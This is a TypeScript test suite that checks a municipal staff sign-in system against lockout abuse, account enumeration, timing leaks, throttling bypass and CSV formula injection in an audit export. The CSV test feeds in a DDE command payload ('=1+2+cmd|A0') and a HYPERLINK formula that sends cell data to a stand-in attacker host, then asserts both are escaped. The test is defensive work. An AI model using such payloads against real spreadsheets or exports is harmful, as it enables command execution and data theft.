import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Database } from '../../src/db/database.js';
import { DEMO_PASSWORD } from '../../src/demo/generate.js';
import { signInAs } from '../support/auth.js';
import type { TestApp } from '../support/app.js';
import { SoftwarePasskey } from '../support/passkey.js';
import { enrol, openDemoCity, signInWith } from '../support/sign-in.js';

const CITY = '112224';
const UNTHROTTLED = { KEITAX_SIGN_IN_MAX_PER_ADDRESS: '100000', KEITAX_SIGN_IN_MAX_PER_ACCOUNT: '1000' };
type Injected = Awaited<ReturnType<TestApp['app']['inject']>>;
/** What a visitor sees of an answer: the status and body, less the request's own id. */
const seen = (res: Injected) => ({ status: res.statusCode, body: { ...res.json(), requestId: undefined } });

describe('sign-in under attack', () => {
  let db: Database;
  let t: TestApp;
  let passkey: SoftwarePasskey;

  beforeAll(async () => {
    // The throttle has its own tests below; here it must not cut the attacks short.
    ({ db, t, passkey } = await openDemoCity({ KEITAX_LOCKOUT_THRESHOLD: '3', ...UNTHROTTLED }));
    expect((await enrol(t, passkey, 'D001', DEMO_PASSWORD, 'DEMO-D001-2026')).statusCode).toBe(200);
  });
  afterAll(async () => {
    await t.app.close();
    await db.close();
  });

  const options = (staffNo: string) => t.app.inject({ method: 'POST', url: '/api/v1/auth/sign-in/options', payload: { staffNo } });
  const failuresOf = (staffNo: string) =>
    db.withMunicipality(CITY, (trx) => trx.selectFrom('staff').select(['failedSignInCount', 'lockedUntil']).where('staffNo', '=', staffNo).executeTakeFirstOrThrow());
  const unlock = (staffNo: string[]) =>
    db.withMunicipality(CITY, (trx) => trx.updateTable('staff').set({ lockedUntil: null, failedSignInCount: 0 }).where('staffNo', 'in', staffNo).execute());
  // Each test starts from accounts with no failures and no lock.
  beforeEach(() => unlock(['D001', 'D002']));

  it('cannot lock an account with made-up challenges', async () => {
    const { options: request } = (await options('D001')).json();
    for (let i = 0; i < 5; i++) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/sign-in',
        payload: { challengeId: randomUUID(), staffNo: 'D001', password: DEMO_PASSWORD, credential: passkey.authenticate(request) },
      });
      expect(res.statusCode).toBe(401);
    }
    expect(await failuresOf('D001')).toEqual({ failedSignInCount: 0, lockedUntil: null });
    expect((await signInWith(t, passkey, 'D001', DEMO_PASSWORD)).statusCode).toBe(200);
  });

  it('cannot lock an account without holding one of its factors', async () => {
    for (let i = 0; i < 5; i++) {
      expect((await signInWith(t, new SoftwarePasskey(t.config.publicOrigin), 'D001', `guess-${i}-password`)).statusCode).toBe(401);
    }
    expect(await failuresOf('D001')).toEqual({ failedSignInCount: 0, lockedUntil: null });
    expect((await signInWith(t, passkey, 'D001', DEMO_PASSWORD)).statusCode).toBe(200);
  });

  it('counts a failure when one factor is right, as when a device or a password has been stolen', async () => {
    expect((await signInWith(t, passkey, 'D001', 'not-the-password')).statusCode).toBe(401);
    expect(await failuresOf('D001')).toMatchObject({ failedSignInCount: 1 });
    expect((await signInWith(t, new SoftwarePasskey(t.config.publicOrigin), 'D001', DEMO_PASSWORD)).statusCode).toBe(401);
    expect(await failuresOf('D001')).toMatchObject({ failedSignInCount: 2 });
    expect((await signInWith(t, passkey, 'D001', DEMO_PASSWORD)).statusCode).toBe(200);
    expect(await failuresOf('D001')).toMatchObject({ failedSignInCount: 0 });
  });

  it('answers an enrolled, a not yet enrolled and an unknown staff number alike, the same each time', async () => {
    const shape = (res: Injected) => {
      const { challengeId, options: o } = res.json();
      expect(challengeId).toMatch(/^[0-9a-f-]{36}$/);
      return {
        keys: Object.keys(o).sort(),
        rpId: o.rpId,
        userVerification: o.userVerification,
        timeout: o.timeout,
        challengeLength: o.challenge.length,
        credentials: o.allowCredentials.map((c: { id: string; type: string; transports?: string[] }) => ({
          keys: Object.keys(c).sort(),
          type: c.type,
          idLength: c.id.length,
          transports: c.transports,
        })),
      };
    };
    const enrolled = await options('D001');
    const notEnrolled = await options('D007');
    const unknown = await options('Z999');
    expect(shape(notEnrolled)).toEqual(shape(enrolled));
    expect(shape(unknown)).toEqual(shape(enrolled));
    expect(enrolled.json().options.allowCredentials[0]).toMatchObject({ id: passkey.credentialId.toString('base64url'), transports: ['internal'] });
    expect((await options('Z999')).json().options.allowCredentials).toEqual(unknown.json().options.allowCredentials);
    expect(unknown.json().options.allowCredentials).not.toEqual((await options('Z998')).json().options.allowCredentials);
  });

  it('says the same for a locked, an unknown and an open account to anyone short of both factors', async () => {
    const stranger = new SoftwarePasskey(t.config.publicOrigin);
    for (let i = 0; i < 3; i++) await signInWith(t, passkey, 'D001', 'not-the-password');
    expect((await failuresOf('D001')).lockedUntil).not.toBeNull();
    const locked = await signInWith(t, stranger, 'D001', 'wrong-password-1');
    const lockedRightPassword = await signInWith(t, stranger, 'D001', DEMO_PASSWORD);
    const unknown = await signInWith(t, stranger, 'Z999', 'wrong-password-1');
    const open = await signInWith(t, stranger, 'D005', 'wrong-password-1');
    expect(seen(locked)).toEqual(seen(unknown));
    expect(seen(lockedRightPassword)).toEqual(seen(unknown));
    expect(seen(open)).toEqual(seen(unknown));
    expect(unknown.statusCode).toBe(401);
    // Only the holder of both factors is told of the lock, and why.
    const holder = await signInWith(t, passkey, 'D001', DEMO_PASSWORD);
    expect(holder.statusCode).toBe(423);
    expect(holder.json().detail).toMatch(/一時的にロックしました/);
  });

  it('spends about as long on an unknown staff number as on a known one (a password hash either way)', async () => {
    const stranger = new SoftwarePasskey(t.config.publicOrigin);
    const time = async (staffNo: string) => {
      const started = performance.now();
      await signInWith(t, stranger, staffNo, 'wrong-password-1');
      return performance.now() - started;
    };
    const known: number[] = [];
    const unknown: number[] = [];
    for (let i = 0; i < 5; i++) {
      known.push(await time('D005'));
      unknown.push(await time(`Z9${i}`));
    }
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[2]!;
    expect(median(unknown) / median(known)).toBeGreaterThan(0.4);
    expect(median(unknown) / median(known)).toBeLessThan(2.5);
  });

  it('says precisely that a wrong or used enrolment code is wrong, for known and unknown staff numbers alike', async () => {
    const enrolment = (staffNo: string, password: string, enrollmentCode: string) =>
      t.app.inject({ method: 'POST', url: '/api/v1/auth/passkeys/options', payload: { staffNo, password, enrollmentCode } });
    const used = await enrolment('D001', DEMO_PASSWORD, 'DEMO-D001-2026');
    expect(used.statusCode).toBe(401);
    expect(used.json().detail).toMatch(/登録コードが正しくないか、すでに使われているか、有効期限が切れています/);
    const wrong = await enrolment('D002', DEMO_PASSWORD, 'ABCD-EFGH-JKLM');
    const unknown = await enrolment('Z999', 'wrong-password-1', 'ABCD-EFGH-JKLM');
    expect(seen(wrong)).toEqual(seen(used));
    expect(seen(unknown)).toEqual(seen(used));
    // With the right code, a wrong password is the generic failure, counted: the code was proven.
    const wrongPassword = await enrolment('D002', 'not-the-password', 'DEMO-D002-2026');
    expect(wrongPassword.statusCode).toBe(401);
    expect(wrongPassword.json().detail).toMatch(/職員番号・パスワード・生体認証/);
    expect(await failuresOf('D002')).toMatchObject({ failedSignInCount: 1 });
  });

  it("keeps what an anonymous visitor typed from running as a formula in the auditor's CSV", async () => {
    const { challengeId, options: request } = (await options('=1+2+cmd|A0')).json();
    await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/sign-in',
      headers: { 'user-agent': '=HYPERLINK("http://attacker.invalid/?leak="&A1,"詳細")' },
      payload: { challengeId, staffNo: '=1+2+cmd|A0', password: 'whatever-password', credential: new SoftwarePasskey(t.config.publicOrigin).authenticate(request) },
    });
    const auditor = await signInAs(t, db, ['auditor']);
    const csv = await t.app.inject({ url: '/api/v1/audit/entries.csv?operation=auth.sign_in&result=failed', headers: auditor.headers });
    expect(csv.statusCode).toBe(200);
    const line = csv.body.split('\r\n').find((l) => l.includes('cmd|A0'));
    expect(line).toContain(`"'=1+2+cmd|A0"`);
    expect(line).toContain(`"'=HYPERLINK(""http://attacker.invalid/`);
    expect(csv.body).not.toMatch(/(^|,)"[=+\-@]/m);
  });
});

describe('sign-in throttle', () => {
  let db: Database;
  let t: TestApp;

  beforeAll(async () => {
    ({ db, t } = await openDemoCity({ KEITAX_SIGN_IN_MAX_PER_ADDRESS: '4', KEITAX_SIGN_IN_MAX_PER_ACCOUNT: '3', KEITAX_SIGN_IN_WINDOW_MINUTES: '10' }));
  });
  afterAll(async () => {
    await t.app.close();
    await db.close();
  });

  const attempt = (staffNo: string, remoteAddress: string) =>
    t.app.inject({ method: 'POST', url: '/api/v1/auth/sign-in/options', payload: { staffNo }, remoteAddress });

  const expectThrottled = (res: Injected) => {
    expect(res.statusCode).toBe(429);
    expect(res.headers['content-type']).toBe('application/problem+json; charset=utf-8');
    expect(res.json().detail).toMatch(/分ほどおいて/);
    expect(Number(res.headers['retry-after'])).toBeGreaterThan(500);
    expect(Number(res.headers['retry-after'])).toBeLessThanOrEqual(600);
  };

  it('answers 429 in Japanese with Retry-After past the limit for one client address, and serves other addresses', async () => {
    for (const staffNo of ['Z001', 'Z002', 'Z003', 'Z004']) expect((await attempt(staffNo, '10.0.0.1')).statusCode).toBe(200);
    expectThrottled(await attempt('Z005', '10.0.0.1'));
    expectThrottled(await t.app.inject({ method: 'POST', url: '/api/v1/auth/sign-in', payload: {}, remoteAddress: '10.0.0.1' }));
    expect((await attempt('Z005', '10.0.0.2')).statusCode).toBe(200);
  });

  it('answers 429 past the limit for one staff number, from whichever address', async () => {
    for (const address of ['10.0.1.1', '10.0.1.2', '10.0.1.3']) expect((await attempt('D003', address)).statusCode).toBe(200);
    expectThrottled(await attempt('D003', '10.0.1.4'));
    const enrolment = await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/passkeys/options',
      payload: { staffNo: 'D003', password: DEMO_PASSWORD, enrollmentCode: 'DEMO-D003-2026' },
      remoteAddress: '10.0.1.5',
    });
    expectThrottled(enrolment);
    expect((await attempt('D004', '10.0.1.4')).statusCode).toBe(200);
  });

  it('leaves the signed-in routes that check no factor alone', async () => {
    const clerk = await signInAs(t, db, ['counter_clerk']);
    for (let i = 0; i < 6; i++) {
      expect((await t.app.inject({ url: '/api/v1/auth/session', headers: clerk.headers, remoteAddress: '10.0.2.1' })).statusCode).toBe(200);
    }
  });
});
